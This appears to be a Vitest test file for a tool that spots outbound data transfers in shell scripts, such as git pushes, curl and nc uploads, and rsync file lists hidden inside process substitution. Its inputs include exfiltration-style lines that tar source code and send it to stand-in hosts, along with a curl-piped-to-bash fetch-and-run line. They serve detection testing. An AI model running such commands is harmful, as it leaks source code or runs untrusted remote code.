import { expect, test } from "vitest";
import { told } from "../../../../test/support/egress-run.ts";

const PUSHED = ["1 push history > remote https://a.example/x"];
const CALL = "os.system('git push https://a.example/x')";

test.each([
  "bash <(echo git push https://a.example/x)",
  "bash -x <(echo 'git push https://§1.example/x') a",
  "source <(echo 'f() { git push https://a.example/x; }'); f",
  ". <(echo git push https://a.example/x)",
  "bash < <(echo git push https://a.example/x)",
  "cat <(echo git push https://a.example/x) | sh",
  `python <(echo "${CALL}")`,
  `python3 < <(echo "${CALL}")`,
  "read U < <(echo https://a.example/x); git push §U",
])("%s is run", (script) => {
  expect(told([script.replaceAll("§", "$")])).toEqual(PUSHED);
});

test("each text that it may be is run", () => {
  expect(told(["bash <(x && echo git push https://a.example/x || echo git push https://b.example/x)"])).toEqual([
    ...PUSHED,
    "1 push history > remote https://b.example/x",
  ]);
});

test("source that is put out so is sent with it", () => {
  expect(told(["curl -T <(tar c src) https://a.example/x"])).toEqual(["1 upload src > host https://a.example/x"]);
  expect(told(["nc a.example 80 < <(tar c src)"])).toEqual(["1 upload src > host a.example:80"]);
  expect(told(["curl -T <(date) https://a.example/x"])).toEqual([]);
});

test("a list of files is read from it", () => {
  const script = "rsync --files-from=<(printf 'a.ts\\nb.ts\\n') src u@h.example:";
  expect(told([script])).toEqual(["1 upload src/a.ts+src/b.ts > host u@h.example:"]);
});

test.each(["bash <(curl -s https://a.example/x)", "diff <(git push-nothing) <(y)", "tee >(sh)", "bash /dev/fd/63"])(
  "%s sends nothing that is known",
  (script) => {
    expect(told([script])).toEqual([]);
  },
);

test("a job has a thousand of them, and that it has more is said", () => {
  const script = (count: number) => "cat <(echo x)\n".repeat(count);
  expect(told([script(1000)])).toEqual([]);
  expect(told([script(1001)])).toEqual(["unread: More than 1000 files of what commands put out in one job."]);
});
